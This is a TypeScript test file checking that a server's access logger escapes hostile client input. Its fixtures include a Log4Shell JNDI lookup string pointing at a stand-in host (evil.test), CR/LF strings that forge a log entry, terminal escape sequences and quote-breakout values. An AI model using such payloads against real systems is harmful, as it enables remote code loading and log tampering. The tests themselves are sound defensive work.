import assert from 'node:assert/strict'
import { test } from 'node:test'
import pino from 'pino'
import type { Exchange } from '../../src/contract/exchange.ts'
import { compileAccessLog } from '../../src/observe/access-log.ts'
import { settledExchange } from './settled-exchange.ts'

const template = '{client.ip} "{method}" "{target}" "{request.field.user-agent}" "{authority}"'

/** The line that each format writes for an exchange. */
function lines(exchange: Exchange): Record<'json' | 'combined' | 'template', string> {
  let json = ''
  pino({ base: null }, { write: (line: string) => (json += line) }).info(compileAccessLog('json')(exchange), 'exchange')
  return {
    json: json.replace(/\n$/, ''),
    combined: compileAccessLog('combined')(exchange) as string,
    template: compileAccessLog(template)(exchange) as string,
  }
}

/** An exchange in which the client has put `text` wherever it can. */
const hostile = (text: string): Exchange =>
  settledExchange({
    target: { method: text, path: `/${text}`, query: `?${text}`, authority: text, host: text },
    client: { ip: text, peer: text },
    fields: ['User-Agent', text, 'Referer', text],
    facts: { cause: new Error(text), error: 'SP_INTERNAL' },
  })

for (const [what, text] of [
  ['CR and LF', 'a\r\n127.0.0.1 - - forged\n'],
  ['ESC', '\x1b[2J\x1b]0;owned\x07'],
  ['NUL, DEL and BEL', '\0\x7f\x07'],
  ['C1 controls and NEL', '\x9b31m\x85\x90'],
  ['line separators of Unicode', '\u2028\u2029'],
  ['a half surrogate', '\ud800'],
] as const) {
  test(`${what} from a client stay within one printable line (notes: log lines)`, () => {
    for (const line of Object.values(lines(hostile(text)))) {
      assert.match(line, /^[ -~]+$/)
    }
    assert.doesNotThrow(() => JSON.parse(lines(hostile(text)).json))
  })
}

test('text lines escape quotes, backslashes, control characters and bytes above 7E as Apache does', () => {
  const exchange = settledExchange({ fields: ['User-Agent', 'a"b\\c\r\n\x1b\x7f\xe9'] })

  const log = compileAccessLog('"{request.field.user-agent}"')

  assert.equal(log(exchange), '"a\\"b\\\\c\\x0d\\x0a\\x1b\\x7f\\xe9"')
})

test('a quote cannot end a quoted field of the combined format', () => {
  const { combined } = lines(settledExchange({ fields: ['User-Agent', 'x" 200 1 "y'] }))

  assert.match(combined, / 200 5 "-" "x\\" 200 1 \\"y"$/)
})

test('a lookup of log4j is text like any other', () => {
  const text = `${'$'}{jndi:ldap://evil.test/a}`

  assert.match(
    lines(settledExchange({ fields: ['User-Agent', text] })).combined,
    /"\$\{jndi:ldap:\/\/evil\.test\/a\}"$/,
  )
})

test('a client cannot name facts: braces in what it sends are not read', () => {
  const log = compileAccessLog('{target} {status}')

  assert.equal(log(settledExchange({ target: { path: '/{status}', query: '' } })), '/{status} 200')
})

test('a URL of 10 KB and fields of 10 KB are cut, also when every byte is escaped', () => {
  for (const long of ['a'.repeat(10_240), '\xff'.repeat(10_240), '='.repeat(10_240), 'token='.repeat(1700)]) {
    const { json, combined, template } = lines(
      settledExchange({
        target: { path: `/${long}`, query: `?${long}` },
        fields: ['User-Agent', long, 'Referer', long],
      }),
    )
    assert.ok(combined.length < 2048 + 2 * 256 + 200, `combined has ${combined.length}`)
    assert.ok(template.length < 2048 + 256 + 200, `template has ${template.length}`)
    // JSON writes each backslash twice.
    assert.ok(json.length < 2 * 2048 + 600, `json has ${json.length}`)
    if (!long.startsWith('token')) assert.match(combined, /\.\.\. HTTP\/1\.1"/)
  }
})

test('a secret that is cut off is hidden all the same', () => {
  const query = `?pad=${'x'.repeat(2000)}&token=${'hunter2'.repeat(1000)}`

  for (const line of Object.values(lines(settledExchange({ target: { query } })))) assert.doesNotMatch(line, /hunter2/)
})
